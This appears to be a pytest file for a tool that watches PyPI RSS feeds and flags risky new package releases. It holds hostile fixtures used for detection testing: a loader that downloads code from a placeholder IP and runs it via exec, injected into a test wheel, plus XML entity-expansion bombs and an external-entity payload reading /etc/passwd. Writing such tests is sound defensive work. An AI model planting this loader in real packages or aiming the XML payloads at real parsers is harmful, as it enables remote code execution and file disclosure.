"""PyPI RSS feeds: parsed, each new release reviewed against its baseline, risky ones queued."""

from __future__ import annotations

import json

import pytest

from app.cli import main
from app.core.registry import RegistryError
from app.core.store.db import Store
from app.workflows.feed import FeedState, parse_rss
from tests.core.registry.archives import make_sdist, make_wheel
from tests.core.registry.servers import FIXTURES

PAYLOAD = """import base64, urllib.request
def _init():
    data = urllib.request.urlopen("http://192.0.2.7/p").read()
    exec(base64.b64decode(data))
_init()
"""


def test_parse_updates_and_newest_packages_feeds():
    updates = parse_rss((FIXTURES / "pypi" / "updates.xml").read_bytes())
    assert [(e.name, e.version) for e in updates] == [("six", "1.17.0"), ("idna", "3.7")]
    assert updates[0].published.isoformat() == "2024-12-04T17:35:28+00:00"
    assert updates[0].link == "https://pypi.org/project/six/1.17.0/"
    newest = parse_rss((FIXTURES / "pypi" / "packages.xml").read_bytes())
    assert [(e.name, e.version) for e in newest] == [("tomli", None), ("six", "1.17.0")]


def test_hostile_feeds_are_refused():
    bomb = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><rss><channel></channel></rss>'
    with pytest.raises(RegistryError, match="DOCTYPE"):
        parse_rss(bomb)
    with pytest.raises(RegistryError, match="not a readable RSS feed"):
        parse_rss(b"<rss><channel><item>")
    odd = b"<rss><channel><item><title>../../etc 1.0</title></item><item><title></title></item></channel></rss>"
    assert parse_rss(odd) == []


def test_entities_behind_a_long_preamble_are_refused_too():
    """A look at the first 4 KB missed a DOCTYPE after a long comment; the parser refuses it."""
    laughs = b"".join(
        b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">'
        % ((i,) + (i - 1,) * 10)
        for i in range(1, 10)
    )
    for preamble in (
        b"<!--" + b"x" * 100_000 + b"-->",
        b"\n" * 100_000,
        b"<?pi " + b"y" * 50_000 + b"?>",
    ):
        bomb = (
            b'<?xml version="1.0"?>'
            + preamble
            + b'<!DOCTYPE rss [<!ENTITY l0 "ha">'
            + laughs
            + b"]><rss><channel><item><title>&l9; 1.0</title></item></channel></rss>"
        )
        with pytest.raises(RegistryError, match="DOCTYPE"):
            parse_rss(bomb)
    external = (
        b'<?xml version="1.0"?>'
        + b" " * 8192
        + (
            b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item>'
            b"<title>&x; 1.0</title></item></channel></rss>"
        )
    )
    with pytest.raises(RegistryError, match="DOCTYPE"):
        parse_rss(external)


def test_state_file_survives_and_is_capped(tmp_path):
    state = FeedState(tmp_path / "s.json")
    for i in range(5005):
        state.add(f"p{i}==1")
    state.save()
    again = FeedState(tmp_path / "s.json")
    assert "p5004==1" in again and "p0==1" not in again and len(again.seen) == 5000
    (tmp_path / "bad.json").write_text("{not json")
    assert FeedState(tmp_path / "bad.json").seen == []


def _feed(items: list[tuple[str, str]]) -> bytes:
    body = "".join(
        f"<item><title>{n} {v}</title><link>https://pypi.org/project/{n}/{v}/</link>"
        f"<pubDate>Mon, 06 Jan 2025 00:00:00 GMT</pubDate></item>"
        for n, v in items
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel>{body}</channel></rss>'.encode()


@pytest.mark.network
def test_watch_feed_once_queues_only_risky_releases(replay, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("VETBENCH_CACHE_DIR", str(tmp_path / "cache"))
    replay.load_pypi("six")
    replay.add_project(
        "demo-feed",
        {
            "1.0": {
                "demo_feed-1.0.tar.gz": make_sdist("demo-feed", "1.0"),
                "demo_feed-1.0-py3-none-any.whl": make_wheel("demo-feed", "1.0"),
            },
            "1.1": {
                "demo_feed-1.1.tar.gz": make_sdist("demo-feed", "1.1"),
                "demo_feed-1.1-py3-none-any.whl": make_wheel(
                    "demo-feed", "1.1", extra_code=PAYLOAD
                ),
            },
        },
    )
    replay.rss["/rss/updates.xml"] = _feed(
        [("demo-feed", "1.1"), ("six", "1.17.0"), ("gone-project", "0.1")]
    )
    db, state = tmp_path / "store.sqlite3", tmp_path / "state.json"
    argv = [
        "watch-feed",
        "--once",
        "--url",
        f"{replay.base}/rss/updates.xml",
        "--index",
        replay.base,
        "--min-level",
        "high",
        "--state",
        str(state),
        "--db",
        str(db),
        "--json",
    ]
    assert main(argv) == 0
    out, err = capsys.readouterr()
    reviews = {r["name"]: r for r in map(json.loads, out.splitlines())}
    assert reviews["demo-feed"]["baseline"] == "1.0"
    assert reviews["demo-feed"]["risk"]["level"] == "critical"
    assert any(t.startswith("exec.remote_code") for t in reviews["demo-feed"]["top"])
    assert reviews["six"]["baseline"] == "1.16.0" and reviews["six"]["queued_item"] is None
    assert reviews["gone-project"]["error"].startswith("no project 'gone-project'")
    with Store.open(db) as store:
        items = store.list_items()
        assert [(i.project, i.versions, i.source, i.risk_level) for i in items] == [
            ("demo-feed", ("1.1",), "feed", "critical")
        ]
        roles = sorted((a.role, a.version) for a in store.artifacts_for(items[0].id))
        assert roles == [("baseline", "1.0"), ("baseline", "1.0"), ("new", "1.1"), ("new", "1.1")]
    # a second poll reviews nothing new
    assert main(argv) == 0
    assert capsys.readouterr().out == ""


@pytest.mark.network
def test_watch_feed_unreadable_feed_is_one_clear_error(replay, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("VETBENCH_HTTP_RETRIES", "0")
    code = main(
        [
            "watch-feed",
            "--once",
            "--url",
            f"{replay.base}/rss/missing.xml",
            "--state",
            str(tmp_path / "s.json"),
            "--no-queue",
        ]
    )
    err = capsys.readouterr().err
    assert code == 2
    assert err.strip().splitlines()[-1].startswith("vetbench: no feed could be read")
